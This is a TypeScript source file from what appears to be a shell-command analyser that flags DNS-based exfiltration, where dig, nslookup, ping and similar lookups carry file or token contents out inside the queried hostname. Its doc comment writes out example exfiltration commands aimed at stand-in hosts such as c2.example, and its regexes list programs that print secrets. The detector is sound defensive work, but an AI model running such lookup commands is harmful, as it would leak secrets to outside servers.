import { HOLDS_SECRETS, SENDS_SECRET } from '../../http/request.ts';
import { reading, resourceRef } from '../../reading.ts';
import { textsOf } from '../command.ts';
import type { ProgramReader } from './program-reader.ts';

/** Programs that print what a machine holds. */
const PRINTS =
	/(?:^|[\s(`|])(?:cat|head|tail|xxd|od|hexdump|base64|base32|env|printenv|whoami|hostname|id|grep|awk|sed|gzip|tar|openssl)\b/;
/** A path in what is printed. */
const FILE = /(?:~|\.{0,2})\/[\w./-]+|(?:^|\s)\.[\w-]+(?:\.[\w-]+)*/;
const PRINTS_FILE =
	/^(?:sudo\s+)?(?:cat|head|tail|xxd|od|hexdump|base64|base32|env|printenv|gzip|tar|openssl|fold|split)\b/;

/**
 * `dig $(head -c 30 token | xxd -p).x.example`, `… | while read l; do nslookup $l.c2.example; done`:
 * a name that is asked for carries out what it is made of.
 */
const nameLookup: ProgramReader = (command) => {
	const texts = textsOf(command.args);
	const carried = texts.find((text) => {
		const made = /(?:\$\(|`)([^)`]*)(?:\)|`)\S*\.[a-z]{2,}/i.exec(text)?.[1];
		return made !== undefined && PRINTS.test(made) && !/^\s*(hostname|whoami)\b/.test(made);
	});
	const fed = command.pipedFrom.find((source) => PRINTS_FILE.test(source));
	const looped =
		fed === undefined
			? undefined
			: command.args.find(
					(word) => word.unresolved.length > 0 && /\$\w+\S*\.[a-z]{2,}/i.test(word.text),
				)?.text;
	const name = carried ?? looped;
	if (name === undefined) return null;
	const path = FILE.exec(fed ?? name)?.[0].trim() ?? null;
	const host = /\.([\w-]+(?:\.[\w-]+)+)$/.exec(name)?.[1] ?? null;
	return [
		reading({
			class: 'expose',
			provider: 'filesystem',
			operation: command.name,
			text: command.source,
			hosts: host === null ? [] : [host],
			readsPaths: path === null ? [] : [path],
			resources: [resourceRef('filesystem', 'file', path ?? fed ?? name)],
			basis: HOLDS_SECRETS.test(fed ?? name)
				? SENDS_SECRET
				: 'a name that carries data to whoever answers for it',
		}),
	];
};

/** Programs that ask for a name: all of them can carry data out in it. */
export const nameLookups: Readonly<Record<string, ProgramReader>> = Object.fromEntries(
	['dig', 'nslookup', 'host', 'drill', 'kdig', 'ping', 'getent', 'resolvectl'].map((program) => [
		program,
		nameLookup,
	]),
);
